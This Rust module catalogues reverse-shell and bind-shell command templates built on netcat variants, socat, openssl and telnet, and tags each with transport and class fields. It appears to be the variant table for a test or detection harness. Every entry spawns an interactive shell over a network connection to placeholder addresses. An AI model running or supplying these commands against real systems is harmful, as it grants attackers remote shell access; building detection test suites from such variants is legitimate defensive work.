//! netcat in its flavours, socat, and other clients whose output feeds a shell.

use super::super::variant::{Class, Transport, Variant};

pub(super) const ALL: &[Variant] = &[
    Variant::tcp(
        "mkfifo + nc.traditional",
        Class::Fifo,
        &["nc.traditional"],
        &["sh", "-c", "mkfifo {dir}/f; sh -i <{dir}/f 2>&1 | nc.traditional {ip} {port} >{dir}/f"],
    )
    .only_v4(),
    Variant::tcp(
        "mkfifo + cat + nc.openbsd",
        Class::Fifo,
        &["nc.openbsd"],
        &["sh", "-c", "mkfifo {dir}/f; cat {dir}/f | /bin/sh -i 2>&1 | nc.openbsd {ip} {port} >{dir}/f"],
    ),
    Variant::tcp(
        "nc.traditional -e",
        Class::Direct,
        &["nc.traditional"],
        &["nc.traditional", "{ip}", "{port}", "-e", "/bin/sh"],
    )
    .only_v4(),
    Variant::tcp("ncat -e", Class::Pipe, &["ncat"], &["ncat", "-{n}", "{ip}", "{port}", "-e", "/bin/sh"]),
    Variant::tcp(
        "ncat --sh-exec",
        Class::Pipe,
        &["ncat"],
        &["ncat", "-{n}", "{ip}", "{port}", "--sh-exec", "bash -i 2>&1"],
    ),
    Variant::tcp(
        "ncat --ssl -e",
        Class::Tls,
        &["ncat", "openssl"],
        &["ncat", "-{n}", "--ssl", "{ip}", "{port}", "-e", "/bin/sh"],
    )
    .over(Transport::Tls),
    Variant::tcp(
        "ncat --udp -e",
        Class::Udp,
        &["ncat"],
        &["ncat", "-{n}", "--udp", "{ip}", "{port}", "--sh-exec", "sh -i 2>&1"],
    )
    .over(Transport::Udp),
    Variant::tcp("busybox nc -e", Class::Direct, &["busybox"], &["busybox", "nc", "{ip}", "{port}", "-e", "/bin/sh"]),
    Variant::tcp(
        "busybox sh + fifo + nc",
        Class::Fifo,
        &["busybox"],
        &["busybox", "sh", "-c", "mkfifo {dir}/f; busybox sh -i <{dir}/f 2>&1 | busybox nc {ip} {port} >{dir}/f"],
    ),
    Variant::tcp("socat exec", Class::SocketPair, &["socat"], &["socat", "TCP{n}:{host}:{port}", "EXEC:/bin/sh"]),
    Variant::tcp(
        "socat exec,nofork",
        Class::Direct,
        &["socat"],
        &["socat", "TCP{n}:{host}:{port}", "EXEC:/bin/sh,nofork"],
    ),
    Variant::tcp("socat exec,pipes", Class::Pipe, &["socat"], &["socat", "TCP{n}:{host}:{port}", "EXEC:/bin/sh,pipes"]),
    Variant::tcp(
        "socat openssl",
        Class::Tls,
        &["socat", "openssl"],
        &["socat", "OPENSSL:{host}:{port},verify=0,pf=ip{n}", "EXEC:/bin/sh"],
    )
    .over(Transport::Tls),
    Variant::tcp("socat udp", Class::Udp, &["socat"], &["socat", "UDP{n}:{host}:{port}", "EXEC:'sh -i',stderr"])
        .over(Transport::Udp),
    Variant::tcp(
        "openssl s_client + fifo",
        Class::Tls,
        &["openssl"],
        &[
            "sh",
            "-c",
            "mkfifo {dir}/f; sh -i <{dir}/f 2>&1 | openssl s_client -quiet -connect {host}:{port} >{dir}/f 2>/dev/null",
        ],
    )
    .over(Transport::Tls),
    Variant::tcp(
        "telnet pipes",
        Class::Fifo,
        &["telnet"],
        &["sh", "-c", "mkfifo {dir}/f; telnet {ip} {port} <{dir}/f | /bin/sh >{dir}/f 2>&1"],
    ),
    Variant::tcp(
        "two relays over loopback",
        Class::Relay,
        &["socat"],
        &[
            "bash",
            "-c",
            "socat TCP4-LISTEN:{p1},bind=127.0.0.1 TCP{n}:{host}:{port} & \
             socat TCP4-LISTEN:{p2},bind=127.0.0.1 TCP4:127.0.0.1:{p1},retry=20,interval=0.05 & \
             socat TCP4:127.0.0.1:{p2},retry=20,interval=0.05 EXEC:/bin/sh; wait",
        ],
    ),
    Variant::tcp(
        "cat between sh and nc",
        Class::Relay,
        &["nc.openbsd"],
        &["sh", "-c", "mkfifo {dir}/f; sh -i <{dir}/f 2>&1 | cat | cat | nc.openbsd {ip} {port} | cat >{dir}/f"],
    ),
    Variant::tcp(
        "nc.traditional -l -e",
        Class::Bind,
        &["nc.traditional"],
        &["nc.traditional", "-l", "-p", "{port}", "-e", "/bin/sh"],
    )
    .only_v4()
    .listening(),
    Variant::tcp("ncat -l -e", Class::Bind, &["ncat"], &["ncat", "-{n}", "-l", "-p", "{port}", "-e", "/bin/sh"])
        .listening(),
    Variant::tcp(
        "socat listen exec",
        Class::Bind,
        &["socat"],
        &["socat", "TCP{n}-LISTEN:{port},reuseaddr", "EXEC:/bin/sh"],
    )
    .listening(),
    Variant::tcp(
        "socat listen pty",
        Class::Bind,
        &["socat"],
        &["socat", "TCP{n}-LISTEN:{port},reuseaddr,fork", "EXEC:'bash -i',pty,stderr,setsid,ctty"],
    )
    .listening(),
    Variant::tcp(
        "nc.openbsd -l + fifo",
        Class::Bind,
        &["nc.openbsd"],
        &["sh", "-c", "mkfifo {dir}/f; sh -i <{dir}/f 2>&1 | nc.openbsd -l {ip} {port} >{dir}/f"],
    )
    .listening(),
];
